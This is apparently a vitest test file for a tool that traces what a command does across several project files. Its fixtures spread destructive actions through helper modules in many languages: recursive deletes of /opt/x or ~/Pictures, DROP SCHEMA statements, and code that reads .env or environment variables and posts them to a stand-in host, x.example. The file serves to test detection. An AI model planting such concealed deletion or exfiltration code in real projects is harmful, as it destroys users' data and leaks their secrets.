import { expect, test } from 'vitest'
import { expectTwin } from '../../testing/expect-twin.ts'
import { linesOf, type Twin } from '../../testing/project-lines.ts'

const settingsSent = 'unknown: project code reads secrets or the environment and talks to the network'
const bus =
  'class Bus:\n  def __init__(self):\n    self.all = {}\n  def on(self, name):\n    def deco(f):\n      self.all[name] = f\n      return f\n    return deco\n  def send(self, name, **given):\n    self.all[name](**given)\nbus = Bus()\n'
const registry = 'steps = {}\ndef step(name):\n  def deco(f):\n    steps[name] = f\n    return f\n  return deco\n'

/** What is put together from several files, where the one that is started says nothing of it. */
test.each<readonly [name: string, twin: Twin]>([
  [
    'modules of a list that are loaded one by one',
    {
      command: 'python a.py',
      files: (told) => ({
        'a.py':
          'import importlib\nfrom lib.r import steps\nfor m in ("lib.s", "lib.t"):\n  importlib.import_module(m)\nfor f in steps.values(): f()\n',
        'lib/r.py': registry,
        'lib/t.py': `import shutil\nfrom lib.r import step\n@step("tidy")\ndef tidy():\n  shutil.rmtree("${told}")\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'modules beside the package that loads them',
    {
      command: 'python a.py',
      files: (told) => ({
        'a.py': 'from lib import load\nload("t")\n',
        'lib/__init__.py': 'import importlib\ndef load(name):\n  return importlib.import_module(f".{name}", __package__)\n',
        'lib/t.py': `import shutil\nshutil.rmtree("${told}")\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'modules above the folder of a script',
    {
      command: 'cd s && python a.py',
      files: (told) => ({
        's/a.py':
          'import sys, os\nsys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))\nimport lib.t\nlib.t.tidy()\n',
        'lib/t.py': `import shutil\ndef tidy():\n  shutil.rmtree("${told}")\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: '../build',
    },
  ],
  [
    'statements in a file beside the code',
    {
      command: 'python -m app.health',
      files: (told) => ({
        'app/health.py': 'from .db import run\nrun("probe")\n',
        'app/db.py':
          'import psycopg2\nfrom pathlib import Path\nHERE = Path(__file__).parent / "sql"\ndef run(name):\n  psycopg2.connect("").cursor().execute((HERE / f"{name}.sql").read_text())\n',
        'app/sql/probe.sql': `${told};\n`,
        'app/sql/other.sql': 'DROP DATABASE shop;\n',
      }),
      lie: ['DROP SCHEMA public CASCADE', 'database:destroy DROP SCHEMA'],
      honest: 'SELECT 1',
    },
  ],
  [
    'statements that one file reads and another has carried out',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "const { Client } = require('pg')\nconst { load } = require('./q')\nnew Client().query(load('count'))\n",
        'q.js':
          "const fs = require('fs'), path = require('path')\nexports.load = (name) => fs.readFileSync(path.join(__dirname, 'sql', name + '.sql'), 'utf8')\n",
        'sql/count.sql': `${told};\n`,
      }),
      lie: ['DROP DATABASE shop', 'database:destroy DROP DATABASE'],
      honest: 'SELECT 1',
    },
  ],
  [
    'statements that are part of a program',
    {
      command: 'go run ./cmd/a',
      files: (told) => ({
        'go.mod': 'module a.example/b\n',
        'cmd/a/main.go':
          'package main\n\nimport (\n\t"database/sql"\n\t_ "embed"\n)\n\n//go:embed check.sql\nvar check string\n\nfunc main() {\n\tdb, _ := sql.Open("postgres", "")\n\tdb.Exec(check)\n}\n',
        'cmd/a/check.sql': `${told};\n`,
      }),
      lie: ['DROP SCHEMA public CASCADE', 'database:destroy DROP SCHEMA'],
      honest: 'SELECT 1',
    },
  ],
  [
    'a walk through a folder elsewhere',
    {
      command: 'python s/a.py',
      files: (told) => ({
        's/a.py': `import os\nfrom pathlib import Path\nROOT = Path(__file__).resolve().parents[1] / "${told}"\nfor base, dirs, names in os.walk(ROOT, topdown=False):\n  for name in names:\n    os.remove(os.path.join(base, name))\n  os.rmdir(base)\n`,
      }),
      lie: ['../opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'the home folder for a sign',
    {
      command: 'npx jest',
      files: (told) => ({
        'package.json': '{"devDependencies":{"jest":"29"},"jest":{"globalSetup":"<rootDir>/test/up.js"}}',
        'test/up.js':
          "const fs = require('fs')\nconst { places } = require('./places.json')\nmodule.exports = () => { for (const p of places) fs.rmSync(p.replace(/^~(?=\\/|$)/, process.env.HOME ?? '/'), { recursive: true }) }\n",
        'test/places.json': `{"places":["${told}"]}`,
      }),
      lie: ['~/Pictures', 'delete ~/Pictures'],
      honest: 'coverage',
    },
  ],
  [
    'the settings of the project, sent by a package that loads itself',
    {
      command: 'go run ./cmd/a',
      files: (told) => ({
        'go.mod': 'module a.example/b\n',
        'cmd/a/main.go': 'package main\n\nimport _ "a.example/b/told"\n\nfunc main() {}\n',
        'told/told.go': `package told\n\nimport (\n\t"bytes"\n\t"net/http"\n\t"os"\n)\n\nfunc init() {\n\tb, _ := os.ReadFile("${told}")\n\thttp.Post("https://x.example/a", "text/plain", bytes.NewReader(b))\n}\n`,
      }),
      lie: ['.env', 'send:data https://x.example/a'],
      honest: 'README.md',
    },
  ],
  [
    'the settings of the project, sent by a library of Ruby',
    {
      command: 'ruby a.rb',
      files: (told) => ({ 'a.rb': `require "faraday"\nbody = File.read("${told}")\nFaraday.post("https://x.example/a", body)\n` }),
      lie: ['.env', settingsSent],
      honest: 'README.md',
    },
  ],
  [
    'the settings of the project, sent by PHP',
    {
      command: 'php a.php',
      files: (told) => ({
        'a.php': `<?php\n$data = file_get_contents(__DIR__ . '/${told}');\n$ch = curl_init('https://x.example/a');\ncurl_setopt($ch, CURLOPT_POSTFIELDS, $data);\ncurl_exec($ch);\n`,
      }),
      lie: ['.env', 'send:data https://x.example/a'],
      honest: 'README.md',
    },
  ],
  [
    'a client that another file makes',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "const client = require('./client')\nclient.post('/a', { all: process.env })\n",
        'client.js': `const axios = require('axios')\nmodule.exports = axios.create({ baseURL: '${told}' })\n`,
      }),
      lie: ['https://x.example', settingsSent],
      honest: 'http://127.0.0.1:3000',
    },
  ],
  [
    'places that a list is made of',
    {
      command: 'pytest',
      files: (told) => ({
        'conftest.py': 'import subprocess\nfrom paths import ALL\nsubprocess.run(["rm", "-rf", *ALL])\n',
        'paths.py': `from pathlib import Path\nALL = [str(p) for p in (Path("${told}"),)]\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'a handler that only its own file knows',
    {
      command: 'python a.py',
      files: (told) => ({
        'a.py': `from bus import bus\nimport handlers\nbus.send("status", root="${told}")\n`,
        'bus.py': bus,
        'handlers.py': 'import shutil\nfrom bus import bus\n@bus.on("status")\ndef status(root):\n  shutil.rmtree(root)\n',
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'a constant of another class',
    {
      command: 'mvn test',
      files: (told) => ({
        'pom.xml': '<project/>',
        'src/test/java/a/BaseTest.java':
          'package a;\nclass BaseTest {\n  static void clean() throws Exception { FileUtils.deleteDirectory(Places.ROOT.toFile()); }\n}\n',
        'src/test/java/a/Places.java': `package a;\nfinal class Places {\n  static final Path ROOT = Paths.get("${told}");\n}\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'target',
    },
  ],
  [
    'a folder as a helper of tasks sees it',
    {
      command: 'rake spec',
      files: (told) => ({
        Rakefile: 'require_relative "lib/tasks/support"\ntask :spec do\n  Support.prepare\nend\n',
        'lib/tasks/support.rb': `module Support\n  def self.prepare\n    FileUtils.rm_rf(File.expand_path("${told}", __dir__))\n  end\nend\n`,
      }),
      lie: ['../../../opt/x', 'delete /opt/x'],
      honest: '../../build',
    },
  ],
  [
    'all that a file gives, handed on to another',
    {
      command: 'node a.js',
      files: (told) => ({
        'a.js': "const graph = require('./graph')\ngraph.visit(require('./visitors'))\n",
        'graph.js': `exports.visit = (visitors) => Object.values(visitors).forEach((v) => v({ root: '${told}' }))\n`,
        'visitors.js':
          "const { execFileSync } = require('child_process')\nexports.clean = ({ root }) => execFileSync('rm', ['-rf', `${root}/x`])\n",
      }),
      lie: ['/opt', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'a command that stands behind others in a task',
    {
      command: 'inv test',
      files: (told) => ({
        'tasks.py': 'from invoke import task\nfrom shell import PREPARE\n@task\ndef test(c):\n  c.run(PREPARE)\n',
        'shell.py': `PREPARE = " && ".join(["mkdir -p build", "rm -rf ${told}"])\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'a variable that stands below what uses it',
    {
      command: 'bats test',
      files: (told) => ({
        'test/a.bats': 'load helpers\n@test "a" { true; }\n',
        'test/helpers.bash': `teardown_file() { rm -rf "\${SUITE}"; }\nSUITE=${told}\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
  [
    'a value that the code of a build holds',
    {
      command: './gradlew lint',
      files: (told) => ({
        gradlew: '#!/bin/sh\nexec java -jar gradle/wrapper/gradle-wrapper.jar "$@"\n',
        'build.gradle.kts': 'import depot.Places\ntasks.register<Delete>("lint") { delete(Places.stale) }\n',
        'buildSrc/src/main/kotlin/depot/Places.kt': `package depot\nobject Places { val stale = listOf("${told}") }\n`,
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build/x',
    },
  ],
  [
    'what a trait does with the property of a class',
    {
      command: 'php a.php',
      files: (told) => ({
        'a.php': "<?php\nrequire __DIR__ . '/Report.php';\n(new Report())->run();\n",
        'Report.php': `<?php\nrequire_once __DIR__ . '/Cleans.php';\nclass Report { use Cleans; protected string $dir = '${told}'; public function run(): void { $this->clean(); } }\n`,
        'Cleans.php': '<?php\ntrait Cleans { protected function clean(): void { exec("rm -rf " . $this->dir); } }\n',
      }),
      lie: ['/opt/x', 'delete /opt/x'],
      honest: 'build',
    },
  ],
])('%s', (_name, twin) => expectTwin(twin))

/** What is only like it. */
test.each<readonly [name: string, command: string, files: Readonly<Record<string, string>>]>([
  [
    'statements that these words do not ask for',
    'python a.py up',
    {
      'a.py':
        'import sys, psycopg2\nfrom pathlib import Path\ndef run(name):\n  psycopg2.connect("").cursor().execute((Path("sql") / f"{name}.sql").read_text())\nif sys.argv[1] == "up":\n  run("up")\nelif sys.argv[1] == "wipe":\n  run("wipe")\n',
      'sql/up.sql': 'CREATE TABLE IF NOT EXISTS a (id int);\n',
      'sql/wipe.sql': 'DROP SCHEMA public CASCADE;\n',
    },
  ],
  [
    'a key out of the settings of the project',
    'go run .',
    {
      'go.mod': 'module a.example/b\n',
      'main.go':
        'package main\n\nimport (\n\t"net/http"\n\t"os"\n\t"strings"\n)\n\nfunc main() {\n\tb, _ := os.ReadFile(".env")\n\tkey := strings.Split(string(b), "=")[1]\n\thttp.Post("https://x.example/a", "text/plain", strings.NewReader(key))\n}\n',
    },
  ],
])('no lie: %s', (_name, command, files) => {
  expect(linesOf(command, files).filter((line) => /^(?:database:(?:destroy|write)|send:)/.test(line))).toEqual([])
})

test('many files of one package, each of which starts something', () => {
  const file = (name: number): string =>
    `package main\n\nimport "os/exec"\n\n${[1, 2, 3, 4].map((count) => `func f${name}x${count}() { exec.Command("git", "log", "-n", "${count}").Run() }\n`).join('')}`
  const files = Object.fromEntries(Array.from({ length: 14 }, (_, name) => [`f${name}.go`, file(name)]))
  expect(
    linesOf('go run .', { 'go.mod': 'module a.example/b\n', ...files, 'main.go': 'package main\n\nfunc main() { f1x1() }\n' }),
  ).not.toContainEqual(expect.stringMatching(/^unknown/))
})
